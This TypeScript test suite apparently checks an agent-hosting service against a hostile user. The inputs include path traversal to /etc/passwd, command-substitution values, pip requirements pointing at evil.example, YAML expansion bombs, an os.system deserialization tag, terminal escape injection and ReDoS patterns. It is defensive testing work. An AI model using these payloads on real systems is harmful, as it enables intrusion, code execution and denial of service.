/** Tools, skills, artifacts, packages, profiles and rules: names that lead elsewhere, texts that blow up, rules that mean more. */

import { randomBytes } from 'node:crypto';
import { once as happens } from 'node:events';
import { writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { type AddressInfo, connect } from 'node:net';
import { join } from 'node:path';
import { setTimeout as delay } from 'node:timers/promises';
import { expect } from 'vitest';
import { WebSocket } from 'ws';
import { Cella } from '../support/cli/command.ts';
import { everywhere, once, type Row } from './row.ts';
import type { World } from './world.ts';

const NAMES = 'No name leads to another folder, key or user.';
const SIZES = 'Input of any size or depth is refused or accepted, without side effects.';
const RULES = 'A rule allows exactly what the person saw who created it.';

const NASTY = [
  '../x',
  '../../../../etc/passwd',
  '/etc/passwd',
  '.',
  '..',
  '.about',
  'a/b',
  'a\\b',
  'x\u0000y',
  'a\nb',
  'a:b:c',
  '*',
  'x*y',
  '{tag}',
  'user:victoria',
  '__proto__',
  'constructor',
  'COM1',
  '\u202egnp',
  ' lead',
  'trail ',
  'é'.normalize('NFD'),
  'x'.repeat(300),
  '%2e%2e%2f',
  '$(id)',
  '`id`',
  '-rf',
  '~',
  'a;b',
  "a'b",
  'a"b',
];

function row(name: string, promise: string, attempt: (world: World) => Promise<void>, options: Partial<Row> = {}): Row {
  return { name, promise, on: once, ...options, attempt };
}

export const namespaceRows: readonly Row[] = [
  row(
    'gives artifacts names that lead elsewhere, over the API',
    NAMES,
    async ({ mallory }) => {
      for (const name of NASTY) {
        const path = `~/artifacts/${encodeURIComponent(name)}`;
        const made = await mallory.call(`PUT ${path}/content?type=text`, { body: 'forged' });
        expect.soft([name, made.status < 500]).toEqual([name, true]);
        await mallory.call(`GET ${path}/content`);
        await mallory.call(`DELETE ${path}`);
      }
    },
    { quick: true },
  ),
  {
    name: 'gives artifacts and skills names that lead elsewhere, in code',
    promise: NAMES,
    on: everywhere,
    quick: true,
    attempt: async (world) => {
      const { mallory, victoria } = world;
      const code = `
told = []
for name in ${JSON.stringify([...NASTY, `../${victoria.userId}/diary`, `${victoria.userId}/diary`, '../../victoria/artifacts/diary'])}:
    for action in (lambda: artifacts.save(name, 'forged'), lambda: artifacts.load(name), lambda: artifacts.delete(name), lambda: skills.create(name, 'async def run():\\n    return 1\\n', 'x'), lambda: skills.get(name), lambda: skills.delete(name)):
        try:
            told.append(str(action())[:200])
        except Exception as error:
            told.append(type(error).__name__)
len(told)`;
      await mallory.run(code, { timeoutMs: 60_000 });
      const kept = await victoria.call('GET ~/artifacts');
      expect(kept.json.artifacts.map(({ name }: { name: string }) => name)).toEqual(['diary']);
    },
  },
  row(
    'gives sessions, labels, profiles, tokens and rules such names',
    NAMES,
    async (world) => {
      const { mallory } = world;
      for (const name of NASTY) {
        const made = await mallory.call('POST /v1/sessions', {
          body: { agentKey: name, name, labels: { x: name.slice(0, 200) }, ...world.executor },
        });
        expect.soft([name, made.status < 500]).toEqual([name, true]);
        if (made.status === 201) {
          expect.soft(made.json.ownerId).toBe(mallory.userId);
          const ran = await mallory.run('__import__("os").getcwd()', { session: made.json.id });
          if (ran.status === 'ok' && world.place !== 'container')
            expect.soft(String(ran.value).startsWith(world.dataDir) || String(ran.value).startsWith('/')).toBe(true);
          await mallory.call(`DELETE /v1/sessions/${made.json.id}`);
        }
        const profile = await mallory.call(`PUT /v1/profiles/${encodeURIComponent(name)}`, {
          body: { commands: { x: 'y' } },
        });
        expect.soft([name, profile.status < 500]).toEqual([name, true]);
        await mallory.call(`DELETE /v1/profiles/${encodeURIComponent(name)}`);
        await mallory.call('POST /v1/tokens', { body: { name } });
      }
    },
    { stalls: false },
  ),
  row('gives profiles files that lead out of an agent’s home', NAMES, async ({ mallory }) => {
    for (const path of [
      '../../x',
      '/etc/passwd',
      '.claude/settings.json',
      '..',
      'a/../../../b',
      '.git/config',
      'x\u0000',
    ]) {
      const { status } = await mallory.call('PUT /v1/profiles/hostile', {
        body: { files: { [path]: 'forged' }, commands: { [path]: 'x' }, skills: { [path]: 'x' } },
      });
      expect.soft([path, status >= 400 && status < 500]).toEqual([path, true]);
    }
  }),
  row(
    'adds, changes and removes tools, which are the operator’s',
    NAMES,
    async ({ mallory }) => {
      const yaml = 'name: evil\ndescription: x\ncommand: [id]\n';
      expect((await mallory.call('POST ~/tools', { body: { yaml } })).status).toBe(403);
      expect((await mallory.call('DELETE ~/tools/evil')).status).toBe(403);
      expect(
        (await mallory.call('POST ~/tools', { body: { yaml: 'a: &a [x,x]\nb: &b [*a,*a]\nc: [*b,*b]\n' } })).status,
      ).toBeGreaterThanOrEqual(400);
    },
    { quick: true },
  ),
  row(
    'stores artifacts and skills with very many parts, and lists and searches them repeatedly',
    SIZES,
    async (world) => {
      const code = `
def attempt(action):
    try:
        action()
    except ValueError:
        pass
for number in range(100):
    for count in (1000, 4500):
        attempt(lambda: artifacts.save('many-%d' % number, b'', metadata={'k%d' % key: key for key in range(count)}))
for count in (255, 20_000, 35_000):
    attempt(lambda: skills.create('many_%d' % count, 'async def run(%s): pass' % ','.join('a%d' % n for n in range(count))))
for _ in range(3):
    found = [len(artifacts.list()), len(skills.list()), len(skills.search('many', limit=100))]
found[0]`;
      expect(await world.mallory.run(code, { timeoutMs: 120_000 })).toMatchObject({ status: 'ok' });
    },
  ),
  row('makes the operator add a text that expands enormously when parsed', SIZES, async (world) => {
    const lines = ['a0: &a0 [x, x, x, x, x, x, x, x, x]'];
    for (let at = 1; at < 12; at++)
      lines.push(
        `a${at}: &a${at} [${Array(9)
          .fill(`*a${at - 1}`)
          .join(', ')}]`,
      );
    const texts = [
      lines.join('\n'),
      '&a [*a]',
      `${'['.repeat(50_000)}`,
      `name: x\n${'  '.repeat(20_000)}y: z`,
      '!!js/function >\n  function(){}',
      '!!python/object/apply:os.system ["id"]',
      `name: ${'x'.repeat(300_000)}`,
    ];
    for (const yaml of texts) {
      const { status } = await world.ask(`POST /v1/sessions/${world.admin.session}/tools`, { body: { yaml } });
      expect.soft([yaml.slice(0, 20), status >= 400 && status < 500]).toEqual([yaml.slice(0, 20), true]);
    }
  }),
  row('names packages that are paths, addresses and options', NAMES, async ({ mallory }) => {
    for (const requirement of [
      '--index-url=http://evil.example',
      '-r /etc/passwd',
      './setup.py',
      '/etc',
      'file:///etc/passwd',
      'git+https://evil.example/x',
      'x @ http://evil.example/x.whl',
      'x; os_name == "posix" --hash=x',
      '-e .',
      'x\n--extra-index-url=http://evil.example',
      '../../x',
      '',
    ]) {
      const { status, json } = await mallory.call('POST ~/deps', { body: { requirements: [requirement] } });
      expect.soft([requirement, status >= 400 || (json.installed ?? []).length === 0]).toEqual([requirement, true]);
    }
  }),
  row(
    'saves artifacts with deep, long and unusual metadata',
    SIZES,
    async ({ mallory }) => {
      const code = `
told = []
deep = {}
for _ in range(100_000):
    deep = {'a': deep}
for metadata in (deep, {'x' * 100_000: 1}, {str(n): n for n in range(100_000)}, {'a': float('nan')}, {'a': 10 ** 10_000}, {'\\ud800': 1}, {1: 2}):
    try:
        told.append(str(artifacts.save('odd', b'x', metadata=metadata))[:100])
    except BaseException as error:
        told.append(type(error).__name__)
for name, value in (('d', 'x' * 100_000), ('t', 'x')):
    try:
        artifacts.save('odd', value, description='x' * 1_000_000)
    except BaseException as error:
        told.append(type(error).__name__)
told`;
      await mallory.run(code, { timeoutMs: 60_000 });
    },
    { on: everywhere },
  ),
  row(
    'creates skills that run on the host when they are created, listed or searched',
    NAMES,
    async ({ mallory, secretDir }) => {
      const source = `import os\nos.system('touch ${secretDir}/made')\nopen('${secretDir}/made2', 'w')\nasync def run():\n    return 1\n`;
      await mallory.call('POST ~/skills', { body: { name: 'planted', source, description: 'x' } });
      await mallory.call('GET ~/skills');
      await mallory.run('skills.search("planted"); skills.planted()');
    },
    { on: everywhere, quick: true },
  ),
  row(
    'sends control characters to the terminal of a user who views a skill',
    'Texts of users are shown as text, without control characters.',
    async (world) => {
      const source = `async def run():\n    "\u001b]0;owned\u0007\u001b[2J\u009b1;1H\u202e"\n`;
      const body = { name: 'painted', source, description: '\u001b[31mred', replace: true };
      expect((await world.admin.call('POST ~/skills', { body })).status).toBe(201);
      using cella = new Cella();
      const tokenFile = join(cella.temporary, 'token');
      writeFileSync(tokenFile, world.admin.token, { mode: 0o600 });
      const env = { CELLA_URL: world.url, CELLA_TOKEN_FILE: tokenFile };
      for (const words of [
        ['skills', 'show', 'painted'],
        ['skills', 'list'],
      ]) {
        const { code, out } = await cella.run(words, { env, terminal: true });
        expect.soft({ words, code, named: out.includes('painted') }).toEqual({ words, code: 0, named: true });
        const obeyed = ['\u001b]', '\u001b[2J', '\u001b[31m', '\u0007', '\u009b', '\u202e'];
        expect.soft(obeyed.filter((sequence) => out.includes(sequence))).toEqual([]);
      }
      await world.admin.call('DELETE ~/skills/painted');
    },
  ),
  row('changes a skill of the operator for everybody, and uses its name', NAMES, async (world) => {
    const { mallory, victoria, admin } = world;
    const name = `word${randomBytes(3).toString('hex')}`;
    await admin.call('POST ~/skills', {
      body: { name, source: 'async def run():\n    return "honest"\n', description: 'x' },
    });
    await mallory.call('POST ~/skills', {
      body: { name, source: 'async def run():\n    return "forged"\n', description: 'x', replace: true },
    });
    expect(await victoria.value(`await skills.${name}()`)).toBe('honest');
    expect((await victoria.call(`DELETE ~/skills/${name}`)).status).toBe(403);
    await admin.call(`DELETE ~/skills/${name}`);
  }),
  row('calls an approved tool again with other headers', RULES, async (world) => {
    const seen: string[] = [];
    const server = createServer((request, response) => {
      seen.push(String(request.headers['x-account']));
      response.end('ok');
    });
    await happens(server.listen(0, '127.0.0.1'), 'listening');
    const { port } = server.address() as AddressInfo;
    const name = `pay${randomBytes(3).toString('hex')}`;
    const yaml = `name: ${name}\ntype: http\ndescription: Pays\nurl: http://127.0.0.1:${port}/pay\nheaders: { X-Account: '{account}' }\nrequires_approval: true\nparameters: { account: { required: true } }\n`;
    try {
      const added = await world.ask(`POST /v1/sessions/${world.admin.session}/tools`, { body: { yaml } });
      expect(added.status).toBe(201);
      const { mallory } = world;
      const session = await mallory.open({ permissionTimeoutMs: 5000 });
      const answer = async (decision: object) => {
        for (let tries = 0; tries < 200; tries++) {
          const { json } = await mallory.call(`GET /v1/sessions/${session}/permissions?state=pending`);
          const [asked] = json.permissions ?? [];
          if (asked)
            return void (await mallory.call(`POST /v1/sessions/${session}/permissions/${asked.id}`, {
              body: decision,
            }));
          await new Promise((resolve) => setTimeout(resolve, 25));
        }
      };
      const responder = new WebSocket(
        `${world.url.replace('http', 'ws')}/v1/sessions/${session}/ws?permissions=answer`,
        { headers: { authorization: `Bearer ${mallory.token}` } },
      );
      responder.on('error', () => {}); // the question is asked of the list, too
      await Promise.all([
        mallory.run(`tools.${name}(account='mine')`, { session }),
        answer({ decision: 'allow', scope: 'session' }),
      ]);
      await Promise.all([mallory.run(`tools.${name}(account='stolen')`, { session }), answer({ decision: 'deny' })]);
      responder.terminate();
      await world.ask(`DELETE /v1/sessions/${world.admin.session}/tools/${name}`);
      expect(seen).toContain('mine');
      expect(seen).not.toContain('stolen');
    } finally {
      server.close();
      server.closeAllConnections();
    }
  }),
  row('creates rules whose patterns match more than they show', RULES, async ({ mallory }) => {
    for (const pattern of [
      '**',
      '*',
      '\u202e*',
      'echo \u200b*',
      'Ｅcho',
      'a'.repeat(100_000),
      '*'.repeat(10_000),
      '(a+)+$',
      '[',
      '\\',
      '\u0000',
      'echo *\nrm *',
    ]) {
      const { status } = await mallory.call('POST /v1/permission-rules', {
        body: { tool: 'Bash', pattern, decision: 'allow' },
      });
      expect.soft([pattern.slice(0, 10), status < 500]).toEqual([pattern.slice(0, 10), true]);
    }
    const { json } = await mallory.call('GET /v1/permission-rules');
    for (const rule of json.rules ?? []) await mallory.call(`DELETE /v1/permission-rules/${rule.id}`);
  }),
  row(
    'sends nonsense to the MCP server of its session, and calls that of another',
    SIZES,
    async ({ mallory, victoria }) => {
      const headers = { 'content-type': 'application/json', accept: 'application/json, text/event-stream' };
      const calls = [
        [],
        {},
        { jsonrpc: '2.0' },
        { jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: '__proto__', arguments: {} } },
        Array.from({ length: 1000 }, (_, id) => ({ jsonrpc: '2.0', id, method: 'ping' })),
        {
          jsonrpc: '2.0',
          id: { $ne: 1 },
          method: 'initialize',
          params: { protocolVersion: '9', capabilities: {}, clientInfo: { name: 'x'.repeat(1_000_000), version: '1' } },
        },
      ];
      for (const body of calls)
        expect.soft((await mallory.call('POST ~/mcp', { body, headers })).status).toBeLessThan(500);
      expect((await mallory.call('POST ~/mcp', { body: `${'['.repeat(200_000)}`, headers })).status).toBeLessThan(500);
      expect(
        (
          await mallory.call(`POST /v1/sessions/${victoria.session}/mcp`, {
            body: { jsonrpc: '2.0', id: 1, method: 'ping' },
            headers,
          })
        ).status,
      ).toBe(404);
      for (const id of ['x', '../x', victoria.session, 'x'.repeat(10_000)])
        expect
          .soft((await mallory.call('DELETE ~/mcp', { headers: { ...headers, 'mcp-session-id': id } })).status)
          .toBeLessThan(500);
    },
  ),
  row(
    'reads a large artifact over MCP 300 times, one by one and in batches, and never reads the answers',
    SIZES,
    async ({ mallory, url }) => {
      const types = { 'content-type': 'application/json', accept: 'application/json, text/event-stream' };
      await mallory.run('artifacts.save("mcp_large", "x" * 4_000_000)');
      const client = { protocolVersion: '2025-03-26', capabilities: {}, clientInfo: { name: 'x', version: '1' } };
      const opened = await fetch(new URL(`/v1/sessions/${mallory.session}/mcp`, url), {
        method: 'POST',
        headers: { ...types, authorization: `Bearer ${mallory.token}` },
        body: JSON.stringify({ jsonrpc: '2.0', id: 0, method: 'initialize', params: client }),
      });
      await opened.text();
      const read = (id: string) => ({
        ...{ jsonrpc: '2.0', id, method: 'resources/read' },
        params: { uri: 'cella://artifacts/mcp_large' },
      });
      const { hostname, port, host } = new URL(url);
      const head = [
        ...[`POST /v1/sessions/${mallory.session}/mcp HTTP/1.1`, `Host: ${host}`],
        ...[`Authorization: Bearer ${mallory.token}`, `Mcp-Session-Id: ${opened.headers.get('mcp-session-id')}`],
        ...Object.entries(types).map(([name, value]) => `${name}: ${value}`),
      ];
      const sockets = Array.from({ length: 300 }, (_, n) => {
        const batch = Array.from({ length: 100 }, (_one, m) => read(`${n} ${m}`));
        const body = JSON.stringify(n % 10 === 0 ? batch : read(`${n}`));
        const socket = connect(Number(port), hostname).pause();
        socket.on('error', () => {}); // it is cut off
        socket.write([...head, `Content-Length: ${body.length}`, '', body].join('\r\n'));
        return socket;
      });
      await delay(20_000);
      for (const socket of sockets) socket.destroy();
      await mallory.run('artifacts.delete("mcp_large")');
    },
    { stalls: false, mostGrowthMb: 400 },
  ),
];
